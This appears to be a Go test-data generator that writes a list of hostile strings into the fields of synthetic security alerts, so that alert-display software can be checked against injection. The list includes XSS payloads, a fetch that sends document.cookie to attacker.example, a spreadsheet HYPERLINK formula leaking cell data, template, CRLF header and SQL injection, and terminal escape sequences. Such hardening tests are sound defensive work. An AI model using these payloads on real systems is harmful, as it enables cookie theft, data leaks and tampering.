package demo

// attacks are texts that harm a page, a terminal, a log or a spreadsheet that takes them for anything but text.
// Alerts are written by attackers as much as by products: a mail subject or a file name is theirs to choose.
var attacks = []string{
	`<script>document.title='owned'</script>`,
	`"><img src=x onerror="document.title='owned'">`,
	`<svg/onload=fetch('//attacker.example/'+document.cookie)>`,
	`javascript:alert(document.domain)`,
	`{{constructor.constructor('return document.cookie')()}}`,
	`</textarea><iframe srcdoc="<script>parent.document.title='owned'</script>">`,
	`=HYPERLINK("https://attacker.example/?"&A1,"open me")`,
	"\u202egnp.exe\u202c is not a picture",
	"line one\r\nSet-Cookie: owned=1\r\n\r\n<b>line two</b>",
	"\u001b[2J\u001b[31mall clear\u001b[0m",
	`'; DROP TABLE alerts; --`,
	`<a href="data:text/html,<script>alert(1)</script>">details</a>`,
}

// hostile writes the attacks into the texts of a few alerts of every kind: title, description, names of files,
// devices, people and subjects.
func (g *generator) hostile() {
	step := len(g.alertList) / hostileCount
	for i := range hostileCount {
		a, text := g.alertList[10+i*step], attacks[i%len(attacks)]
		a["title"] = text + " in a title"
		a["description"] = "A description with " + text
		a["recommendedActions"] = "1. " + text
		a["threatDisplayName"] = text
		a["systemTags"] = []string{"hostile text", text}
		for _, e := range a["evidence"].([]object) {
			spoil(e, text)
		}
	}
}

// spoil replaces the values that an attacker chooses. Ids, enum values and what places a device stay as they are.
func spoil(e object, text string) {
	for _, field := range []string{"subject", "url", "displayName", "processCommandLine", "registryValue", "clusterByValue"} {
		if _, ok := e[field]; ok {
			e[field] = text
		}
	}
	for _, inner := range []string{"fileDetails", "userAccount", "imageFile"} {
		if o, ok := e[inner].(object); ok {
			spoiled := object{}
			for k, v := range o {
				spoiled[k] = v
			}
			for _, field := range []string{"fileName", "displayName", "accountName"} {
				if _, ok := spoiled[field]; ok {
					spoiled[field] = text
				}
			}
			e[inner] = spoiled
		}
	}
}
